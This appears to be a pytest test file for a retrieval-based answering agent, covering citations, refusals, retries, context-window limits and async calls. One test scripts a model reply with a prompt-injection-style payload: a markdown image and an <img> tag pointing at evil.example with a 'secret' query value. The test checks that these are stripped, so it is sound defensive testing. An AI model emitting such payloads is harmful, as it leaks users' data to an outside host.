import asyncio

import pytest

from assistant.answering.agent import NO_DOCUMENTS, Agent
from assistant.answering.answer import Done, Found, Token
from assistant.answering.bare_answers import FIRMER
from assistant.answering.prompt import CLOSE, REFUSAL
from assistant.config import AssistantConfig, Sampling
from assistant.errors import AssistantError
from assistant.llm.model import wrap_chat_model
from tests.assistant.helpers import MOON, MOON_QUESTION, PAGES, PagesStore, WordEmbedder, make_agent, scripted


def test_events_come_in_order_and_the_tokens_make_up_the_answer():
    chat = scripted("Its diameter is 3,474 kilometres [1].")
    events = list(make_agent(chat).stream(MOON_QUESTION))
    assert isinstance(events[0], Found)
    assert isinstance(events[-1], Done)
    assert events[0].passages == events[-1].answer.passages
    tokens = [event.text for event in events if isinstance(event, Token)]
    assert len(tokens) > 3
    assert "".join(tokens) == events[-1].answer.text == "Its diameter is 3,474 kilometres [1]."


def test_a_citation_has_the_range_of_its_words_on_the_page():
    answer = make_agent(scripted("Its diameter is 3,474 kilometres [1].")).ask(MOON_QUESTION)
    (citation,) = answer.citations
    assert (citation.document, citation.page, citation.quote) == ("moon.pdf", 1, "Its diameter is 3,474 kilometres.")
    assert MOON[citation.start : citation.end] == citation.quote
    assert not answer.refused
    assert answer.unsupported == ()


def test_an_invented_citation_never_reaches_the_screen_and_is_counted():
    agent = make_agent(scripted("It is 3,474 kilometres [1]. The rest [99] is [42] known."))
    events = list(agent.stream(MOON_QUESTION))
    assert all("99" not in event.text and "42" not in event.text for event in events if isinstance(event, Token))
    answer = events[-1].answer
    assert answer.invented == (99, 42)
    assert [citation.number for citation in answer.citations] == [1]
    assert "2 citations of passages that do not exist were removed." in answer.notices


def test_without_evidence_the_answer_is_a_refusal_and_the_model_is_not_called():
    chat = scripted("never said")
    answer = make_agent(chat).ask("zebra xylophone quartz?")
    assert (answer.text, answer.refused, answer.citations) == (REFUSAL, True, ())
    assert chat.calls == []


def test_a_model_that_declines_gives_a_refusal_in_the_fixed_wording():
    answer = make_agent(scripted("The passages do not mention this.")).ask(MOON_QUESTION)
    assert (answer.text, answer.refused, answer.citations) == (REFUSAL, True, ())


@pytest.mark.parametrize(
    ("question", "said", "page"),
    [
        ("Is shipping included in the price?", "No, shipping is not included in the price.", "Shipping is not included in the price."),
        ("Does the bar contain nuts?", "The bar does not contain nuts.", "The bar does not contain nuts. It weighs 40 grams."),
    ],
)  # fmt: skip
def test_a_no_that_the_documents_say_is_an_answer_and_one_that_they_do_not_is_a_refusal(question, said, page):
    answer = make_agent(scripted(said), pages={("shop.pdf", 1): page}).ask(question)
    assert (answer.refused, answer.citations[0].number) == (False, 1)
    other = make_agent(scripted(said), pages={("shop.pdf", 1): "The price of shipping and of the bar is on page 4."})
    assert other.ask(question).refused


def test_the_messages_as_sent_are_kept():
    chat = scripted("It has no air [1].")
    answer = make_agent(chat, system_prompt="Be kind.").ask(MOON_QUESTION)
    assert [(m.type, m.content) for m in chat.calls[0]] == [
        ("system", answer.messages[0].content),
        ("human", answer.messages[1].content),
    ]
    assert answer.messages[0].content.startswith("Be kind.")
    assert f"{MOON}\n" in answer.messages[1].content


def test_the_agent_answers_with_quotes():
    answer = make_agent().ask("What is the diameter of the moon?", k=2)
    assert "Its diameter is 3,474 kilometres." in answer.text
    assert "[1]" in answer.text
    assert answer.citations[0].document == "moon.pdf"
    assert answer.invented == ()
    assert answer.mode == "quotes"


def test_quotes_are_labeled_as_excerpts_and_are_verbatim():
    answer = make_agent().ask("diameter of the moon, dividends paid")
    assert "excerpts" in answer.notices[0]
    assert len(answer.citations) >= 2
    for citation in answer.citations:
        assert PAGES[citation.document, citation.page][citation.start : citation.end] == citation.quote


def test_instructions_in_a_passage_neither_change_the_prompt_nor_leak_anything():
    chat = scripted(
        "PWNED [99] ![x](http://evil.example/?q=secret) <img src=http://evil.example> The warranty lasts 24 months [1]."
    )
    answer = make_agent(chat).ask("How long does the warranty last?")
    sent = chat.calls[0][1].content
    assert sent.count(CLOSE) == 1
    assert sent.endswith("Question: How long does the warranty last?")
    assert "evil.example" not in answer.text
    assert "<img" not in answer.text
    assert answer.invented == (99,)


@pytest.mark.parametrize("bare", ["[1]", "Yes.", "No [1]", "7", "The moon"])
def test_an_answer_that_says_nothing_is_asked_for_once_more_and_never_shown(bare):
    chat = scripted(bare, "Its diameter is 3,474 kilometres.")
    pages = {("moon.pdf", 1): f"The moon\n\n{MOON}"}
    events = list(make_agent(chat, pages=pages).stream(MOON_QUESTION))
    answer = events[-1].answer
    assert "".join(event.text for event in events if isinstance(event, Token)) == answer.text
    assert answer.text == "Its diameter is 3,474 kilometres [1]."
    assert [call[-1].content.splitlines()[-1] for call in chat.calls] == [f"Question: {MOON_QUESTION}", FIRMER]
    assert answer.messages[-1].content.endswith(FIRMER)


def test_after_two_answers_that_say_nothing_quotes_are_shown_and_labeled():
    events = list(make_agent(scripted("Yes.", "[1]")).stream(MOON_QUESTION))
    answer = events[-1].answer
    assert answer.mode == "quotes"
    assert answer.text == "".join(event.text for event in events if isinstance(event, Token))
    assert "Its diameter is 3,474 kilometres." in answer.text
    assert "scripted gave no usable answer. These are excerpts from your documents instead." in answer.notices


def test_an_answer_may_begin_like_a_line_of_the_page():
    chat = scripted("The moon has no air.")
    answer = make_agent(chat, pages={("moon.pdf", 1): f"The moon\n\n{MOON}"}).ask(MOON_QUESTION)
    assert (answer.text, len(chat.calls)) == ("The moon has no air [1].", 1)


def test_a_citation_that_nothing_bears_out_is_taken_off_and_the_best_quotes_stand_beside_a_wrong_figure():
    answer = make_agent(scripted("Its diameter is 9,999 kilometres [1].")).ask(MOON_QUESTION)
    assert (answer.text, answer.citations) == ("Its diameter is 9,999 kilometres.", ())
    assert [span.text for span in answer.unsupported] == ["Its diameter is 9,999 kilometres."]
    assert "3,474" in answer.quotes[0].quote
    assert answer.as_dict()["quotes"][0]["document"] == "moon.pdf"


def test_the_numbers_of_earlier_answers_are_not_in_the_next_prompt():
    chat = scripted("Its diameter is 3,474 kilometres [1].", "Has the moon air?", "The moon has no air [1].")
    agent = make_agent(chat)
    agent.ask("Has it air?", history=[agent.ask(MOON_QUESTION)])
    assert chat.calls[-1][2].content == "Its diameter is 3,474 kilometres."


def test_without_documents_the_answer_is_plain_chat_and_labeled_as_such():
    chat = scripted("Hello!")
    config = AssistantConfig()
    answer = Agent(config, wrap_chat_model(chat, name="scripted")).ask("Hi", use_documents=False)
    assert (answer.text, answer.mode, answer.passages, answer.refused) == ("Hello!", "chat", (), False)
    assert [message.content for message in chat.calls[0]] == ["Hi"]
    assert answer.notices == (NO_DOCUMENTS,)


def test_an_agent_without_a_library_raises_an_error():
    with pytest.raises(AssistantError, match="give it a store"):
        Agent(AssistantConfig(), wrap_chat_model(scripted(), name="scripted")).ask("Hi")


def test_200_turns_never_pass_the_window_and_keep_the_system_prompt():
    window = 1500
    chat = scripted(*["What is the diameter of the moon?", "The moon has no air, nobody lives there [1]. " * 3] * 200)
    chat.script.pop(0)
    agent = make_agent(chat, window=window, max_tokens=300, system_prompt="Stay calm.")
    history = []
    for _ in range(200):
        history.append(agent.ask(MOON_QUESTION, history=history))
    assert all(answer.usage.prompt_tokens + 300 <= window for answer in history)
    assert all(answer.messages[0].content.startswith("Stay calm.") for answer in history)
    assert "earlier turns did not fit" in " ".join(history[-1].notices)
    assert history[-1].usage.dropped_turns > 150


def test_ask_stream_and_batch_work_asynchronously_and_side_by_side():
    async def both():
        agent = make_agent()
        answer = await agent.aask(MOON_QUESTION)
        events = [event async for event in agent.astream(MOON_QUESTION)]
        return answer, events

    answer, events = asyncio.run(both())
    assert events[-1].answer.text == answer.text
    answers = make_agent().batch([MOON_QUESTION, "dividends paid to shareholders?"], workers=2)
    assert [answer.citations[0].document for answer in answers] == ["moon.pdf", "report.pdf"]


def test_sampling_reaches_the_model_of_this_call_only():
    built = []
    agent = make_agent(scripted("a [1]", "b [1]"))
    chat = agent.model.build(Sampling())
    object.__setattr__(agent.model, "build", lambda sampling: built.append(sampling.temperature) or chat)
    agent.ask(MOON_QUESTION, sampling=Sampling(temperature=0.9))
    agent.ask(MOON_QUESTION)
    assert built == [0.9, 0.2]


def test_the_time_before_the_model_is_measured():
    answer = Agent(
        AssistantConfig(threshold=0), wrap_chat_model(scripted("x [1]"), name="s"), PagesStore(), WordEmbedder()
    ).ask("moon")
    assert 0 < answer.usage.own_seconds <= answer.usage.first_token_seconds <= answer.usage.seconds
